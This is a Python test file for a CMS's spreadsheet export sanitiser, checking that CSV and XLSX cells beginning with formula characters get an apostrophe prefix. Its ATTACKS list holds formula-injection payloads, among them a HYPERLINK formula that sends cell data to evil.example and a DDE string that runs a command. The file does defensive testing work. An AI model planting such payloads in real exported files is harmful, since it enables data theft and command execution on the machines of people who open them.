"""Exported cells cannot run as formulas: text starting with = + - @, tab, carriage return
or NUL gets a leading apostrophe, in CSV and XLSX alike; everything else is unchanged."""

import csv
import datetime
import io
from decimal import Decimal

import openpyxl
import pytest

from cms.cells import cell_safe

ATTACKS = [
    '=HYPERLINK("https://evil.example/?"&A1,"Click")',
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
    "\0=1+1",
    "=cmd|' /C calc'!A0",
    "-",
]
HARMLESS = ["", "Barnet", "Cost = £12,000", "a-b", "email@example.org", " =1+1", "'=quoted", "1"]


@pytest.mark.parametrize("text", ATTACKS)
def test_dangerous_text_gets_a_leading_apostrophe(text):
    assert cell_safe(text) == "'" + text


@pytest.mark.parametrize("text", HARMLESS)
def test_ordinary_text_is_unchanged(text):
    assert cell_safe(text) == text


@pytest.mark.parametrize(
    "value", [None, 0, -5, 3.5, -2.25, Decimal("-1.5"), True, datetime.date(2023, 9, 1)]
)
def test_numbers_dates_and_empty_cells_keep_their_type(value):
    # A negative number is a number in the spreadsheet, not a formula: leave it alone.
    assert cell_safe(value) is value


def test_an_xlsx_written_through_cell_safe_has_no_formulas():
    attacks = [text for text in ATTACKS if "\0" not in text]  # openpyxl refuses NUL itself
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.append([cell_safe(text) for text in attacks] + [cell_safe(-5)])
    buffer = io.BytesIO()
    book.save(buffer)
    buffer.seek(0)
    row = next(openpyxl.load_workbook(buffer).active.iter_rows(max_row=1))
    assert [cell.data_type for cell in row[:-1]] == ["s"] * len(attacks)
    assert [cell.value for cell in row[:-1]] == ["'" + text for text in attacks]
    assert row[-1].value == -5 and row[-1].data_type == "n"


def test_without_cell_safe_the_same_xlsx_would_hold_a_formula():
    # The attack is real: openpyxl writes text starting with "=" as a formula.
    book = openpyxl.Workbook()
    book.active.append(["=1+1"])
    buffer = io.BytesIO()
    book.save(buffer)
    buffer.seek(0)
    assert openpyxl.load_workbook(buffer).active["A1"].data_type == "f"


def test_a_csv_written_through_cell_safe_reads_back_as_quoted_text():
    buffer = io.StringIO()
    csv.writer(buffer).writerow([cell_safe(text) for text in ATTACKS])
    buffer.seek(0)
    assert next(csv.reader(buffer)) == ["'" + text for text in ATTACKS]
